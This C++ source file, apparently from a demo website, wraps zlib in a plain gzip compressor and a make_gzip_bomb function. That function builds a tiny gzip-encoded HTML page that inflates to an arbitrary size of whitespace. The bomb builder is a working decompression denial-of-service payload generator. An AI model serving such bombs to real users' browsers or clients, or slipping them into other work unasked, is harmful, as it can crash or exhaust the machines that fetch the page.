// gzip on zlib: a plain compressor and the gzip bomb builder.
#include "gzip.h"

#include <zlib.h>

#include <array>

namespace meadow::demo_site {

namespace {

// A deflate stream at best compression; `window_bits` as for deflateInit2 (31 for a gzip
// member, -15 for raw deflate).
class Deflater {
 public:
  Deflater() = default;
  ~Deflater() {
    if (ready_) deflateEnd(&z_);
  }
  Deflater(const Deflater&) = delete;
  Deflater& operator=(const Deflater&) = delete;

  Status init(int window_bits) {
    if (deflateInit2(&z_, Z_BEST_COMPRESSION, Z_DEFLATED, window_bits, 9, Z_DEFAULT_STRATEGY) != Z_OK)
      return make_error(ErrorKind::internal, "deflate-init", "zlib could not start a deflate stream");
    ready_ = true;
    return ok_status();
  }

  // Compresses `in` with `flush` (Z_NO_FLUSH, Z_FULL_FLUSH, Z_FINISH) and appends to `out`.
  Status feed(std::string_view in, int flush, std::string& out) {
    z_.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(in.data()));
    z_.avail_in = static_cast<uInt>(in.size());
    std::array<unsigned char, 64 * 1024> buffer;
    do {
      z_.next_out = buffer.data();
      z_.avail_out = static_cast<uInt>(buffer.size());
      if (deflate(&z_, flush) == Z_STREAM_ERROR)
        return make_error(ErrorKind::internal, "deflate", "zlib refused to deflate");
      out.append(reinterpret_cast<const char*>(buffer.data()), buffer.size() - z_.avail_out);
    } while (z_.avail_out == 0);
    return ok_status();
  }

 private:
  z_stream z_{};
  bool ready_ = false;
};

void append_le32(std::string& out, std::uint32_t v) {
  for (int i = 0; i < 4; ++i) out.push_back(static_cast<char>((v >> (8 * i)) & 0xFF));
}

}  // namespace

Result<std::string> gzip_compress(std::string_view data) {
  Deflater deflater;
  MEADOW_TRY(deflater.init(15 + 16));
  std::string out;
  MEADOW_TRY(deflater.feed(data, Z_FINISH, out));
  return out;
}

Result<std::string> make_gzip_bomb(std::uint64_t inflated_bytes) {
  static constexpr std::string_view kHead =
      "<!doctype html>\n<html lang=\"en\"><head><meta charset=\"utf-8\"><title>A very large page</title></head>\n"
      "<body><h1>A very large page</h1><p>Nearly all of this page is white space.</p>\n";
  static constexpr std::string_view kTail = "\n<p>The end.</p></body></html>\n";
  static constexpr std::size_t kBlock = 1024 * 1024;
  if (inflated_bytes < kBlock)
    return make_error(ErrorKind::invalid, "bomb-size", "the gzip bomb must inflate to at least 1 MiB");

  const std::uint64_t filler = inflated_bytes - kHead.size() - kTail.size();
  const std::uint64_t blocks = filler / kBlock;
  const std::string block(kBlock, ' ');
  std::string tail(static_cast<std::size_t>(filler % kBlock), ' ');
  tail += kTail;

  // RFC 1952 header: deflate, no flags, no time, best compression, Unix.
  std::string out("\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\x03", 10);
  Deflater deflater;
  MEADOW_TRY(deflater.init(-15));
  MEADOW_TRY(deflater.feed(kHead, Z_FULL_FLUSH, out));
  uLong crc = crc32_z(0, reinterpret_cast<const Bytef*>(kHead.data()), kHead.size());
  const uLong block_crc = crc32_z(0, reinterpret_cast<const Bytef*>(block.data()), block.size());

  // After a full flush the deflate state is reset, so the same input yields the same bytes:
  // once two blocks in a row compress alike, the rest copy them instead of deflating 1 GiB.
  std::string previous;
  bool steady = false;
  for (std::uint64_t i = 0; i < blocks; ++i) {
    if (steady) {
      out += previous;
    } else {
      std::string piece;
      MEADOW_TRY(deflater.feed(block, Z_FULL_FLUSH, piece));
      steady = i > 0 && piece == previous;
      out += piece;
      previous = std::move(piece);
    }
    crc = crc32_combine(crc, block_crc, static_cast<z_off_t>(kBlock));
  }
  MEADOW_TRY(deflater.feed(tail, Z_FINISH, out));
  crc = crc32_z(crc, reinterpret_cast<const Bytef*>(tail.data()), tail.size());

  append_le32(out, static_cast<std::uint32_t>(crc));
  append_le32(out, static_cast<std::uint32_t>(inflated_bytes & 0xFFFFFFFFu));
  return out;
}

}  // namespace meadow::demo_site
